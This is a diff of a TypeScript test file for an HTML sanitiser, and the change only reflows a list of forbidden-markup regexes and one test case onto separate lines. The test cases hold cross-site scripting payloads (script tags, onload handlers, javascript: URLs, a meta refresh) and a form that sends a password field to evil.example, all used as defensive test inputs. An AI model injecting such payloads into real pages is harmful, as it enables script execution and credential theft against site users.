@@ -7,7 +7,19 @@ import { bearer, createAccount, signIn } from '../support/server/accounts.ts';
 import { createTestApp, type TestApp } from '../support/server/test-app.ts';
 
 /** What must never reach a browser from stored content. */
-const DANGEROUS = [/<script/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /\sstyle\s*=/i, /<iframe/i, /<object/i, /<embed/i, /<svg/i, /<form/i];
+const DANGEROUS = [
+  /<script/i,
+  /\son\w+\s*=/i,
+  /javascript:/i,
+  /vbscript:/i,
+  /data:/i,
+  /\sstyle\s*=/i,
+  /<iframe/i,
+  /<object/i,
+  /<embed/i,
+  /<svg/i,
+  /<form/i,
+];
 
 function expectHarmless(html: string): void {
   for (const pattern of DANGEROUS) expect(html, `${pattern} in ${html}`).not.toMatch(pattern);
@@ -32,7 +44,11 @@ describe('sanitiser (allow-list, on the way in)', () => {
     ['a style element', '<style>body{display:none}</style><p>texte</p>', '<p>texte</p>'],
     ['frames, objects and embeds', '<iframe src="/x"></iframe><object data="/x"></object><embed src="/x"><p>ok</p>', '<p>ok</p>'],
     ['an SVG with a script', '<svg onload="alert(1)"><script>alert(2)</script></svg><p>après</p>', '<p>après</p>'],
-    ['a form', '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Envoyer</button></form>', 'Envoyer'],
+    [
+      'a form',
+      '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Envoyer</button></form>',
+      'Envoyer',
+    ],
     ['classes, ids and unknown attributes', '<p class="x" id="y" data-track="z">texte</p>', '<p>texte</p>'],
     ['a comment', '<!-- <script>alert(1)</script> --><p>texte</p>', '<p>texte</p>'],
     ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>texte</p>', '<p>texte</p>'],
